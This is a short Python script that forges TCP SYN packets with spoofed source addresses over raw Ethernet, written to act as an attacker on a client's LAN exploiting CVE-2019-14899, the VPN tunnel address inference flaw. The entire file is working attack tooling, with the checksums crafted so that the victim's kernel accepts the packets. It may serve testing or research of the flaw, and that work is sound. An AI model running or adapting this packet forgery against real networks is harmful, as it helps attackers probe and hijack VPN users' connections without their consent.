#!/usr/bin/env python3
"""Forge TCP SYNs as an attacker on the client's LAN would (CVE-2019-14899).

  forgesyn.py IFACE DST_MAC SRC_MAC SRC_IP SPORT DST_IP PORT [PORT...]

One Ethernet frame per port, out of IFACE by AF_PACKET: a TCP SYN (IPv4, or
IPv6 when the addresses are) from
SRC_IP (an internet host's address) and SPORT to DST_IP (the client's tunnel
address) and PORT, checksums right, so that the victim's kernel takes it.
Prints "sent N".
"""
import socket
import struct
import sys


def checksum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def tcp_syn(pseudo, sport, dport, seq):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
    return tcp[:16] + struct.pack("!H", checksum(pseudo(len(tcp)) + tcp)) + tcp[18:]


def syn(src, dst, sport, dport, seq):
    """The IP packet and its ethertype."""
    if ":" in dst:
        s, d = socket.inet_pton(socket.AF_INET6, src), socket.inet_pton(socket.AF_INET6, dst)
        tcp = tcp_syn(lambda n: s + d + struct.pack("!IxxxB", n, socket.IPPROTO_TCP), sport, dport, seq)
        ip = struct.pack("!IHBB16s16s", 6 << 28, len(tcp), socket.IPPROTO_TCP, 64, s, d)
        return ip + tcp, b"\x86\xdd"
    s, d = socket.inet_aton(src), socket.inet_aton(dst)
    tcp = tcp_syn(lambda n: s + d + struct.pack("!BBH", 0, socket.IPPROTO_TCP, n), sport, dport, seq)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), seq & 0xFFFF, 0, 64,
                     socket.IPPROTO_TCP, 0, s, d)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + tcp, b"\x08\x00"


def main():
    ifc, dmac, smac, src, sport, dst = sys.argv[1:7]
    ports = [int(p) for p in sys.argv[7:]]
    macs = bytes.fromhex(dmac.replace(":", "")) + bytes.fromhex(smac.replace(":", ""))
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((ifc, 0))
    for i, p in enumerate(ports):
        pkt, ethertype = syn(src, dst, int(sport), p, 0x1000 + i)
        s.send(macs + ethertype + pkt)
    print("sent %d" % len(ports))


if __name__ == "__main__":
    main()
